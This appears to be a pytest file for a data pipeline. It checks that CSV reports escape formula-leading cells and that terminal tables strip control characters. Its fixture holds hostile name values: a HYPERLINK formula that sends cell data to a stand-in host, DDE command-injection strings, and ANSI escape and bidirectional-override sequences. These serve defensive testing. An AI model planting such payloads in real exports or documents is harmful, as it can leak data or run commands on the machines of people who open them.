"""Authority names from the zip are data, not instructions: no formulas in CSV, no escape codes
on the terminal."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from evergreen_etl.cli import app
from evergreen_etl.report import list_reports
from evergreen_etl.safe_text import FORMULA_PREFIXES
from support.keys import TEST_KEY
from support.sources import nspl_row, user, write_lookup_zip, write_users

HOSTILE_NAMES = {
    "E06000001": '=HYPERLINK("http://evil.test/?"&A1)',
    "E06000002": "+cmd|' /C calc'!A0",
    "E06000003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "E06000004": "-2+3+cmd|' /C calc'!A0",
    "E06000005": "\tTabbed\rReturned",
    "E08000026": "Red\x1b[31m\x1b]0;owned\x07\u202eCoventry\x9b2J",
}
POSTCODES = ["AB1 1AA", "AB2 1AA", "AB3 1AA", "AB4 1AA", "AB5 1AA", "CV4 9RE"]
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse whose authority names all came from a hostile names file."""
    tmp = tmp_path_factory.mktemp("hostile")
    codes = list(HOSTILE_NAMES)
    lookup = write_lookup_zip(
        tmp / "postcodes.zip",
        [nspl_row(pc, code) for pc, code in zip(POSTCODES, codes, strict=True)],
        names=HOSTILE_NAMES,
    )
    users = write_users(
        tmp / "users.json", [user(f"u{i}@example.com", pc) for i, pc in enumerate(POSTCODES)]
    )
    result = CliRunner().invoke(
        app,
        [
            *("run", "--data-dir", str(tmp / "data"), "--users-url", str(users)),
            *("--postcodes-url", str(lookup), "--as-of", "2024-01-01", "-q"),
        ],
        env={"EVERGREEN_PSEUDONYM_KEY": TEST_KEY},
    )
    assert result.exit_code == 0, result.output
    return tmp / "data"


def _report(data: Path, name: str, fmt: str) -> str:
    args = ["report", name, "--data-dir", str(data), "--format", fmt]
    if name == "movers":
        args += ["--from", "2023-01-01", "--to", "2024-06-01"]
    result = CliRunner().invoke(app, args, env={"EVERGREEN_PSEUDONYM_KEY": TEST_KEY})
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.mark.parametrize("name", list(list_reports()))
def test_csv_cells_never_start_a_formula(data: Path, name: str) -> None:
    """No text cell of any report's CSV starts with = + - @, a tab or a carriage return."""
    rows = list(csv.reader(io.StringIO(_report(data, name, "csv"))))

    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or _is_number(cell), (name, cell)


def test_headline_csv_keeps_the_names_readable(data: Path) -> None:
    """A neutralised name is the name behind an apostrophe, so nothing is lost."""
    names = {
        row[0]: row[1] for row in csv.reader(io.StringIO(_report(data, "local-authority", "csv")))
    }

    assert names["E06000001"] == "'" + HOSTILE_NAMES["E06000001"]
    assert names["E06000004"] == "'" + HOSTILE_NAMES["E06000004"]


@pytest.mark.parametrize("name", list(list_reports()))
def test_tables_hold_no_control_characters(data: Path, name: str) -> None:
    """The terminal table of every report holds no escape codes or bidirectional controls."""
    assert CONTROL.search(_report(data, name, "table")) is None


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
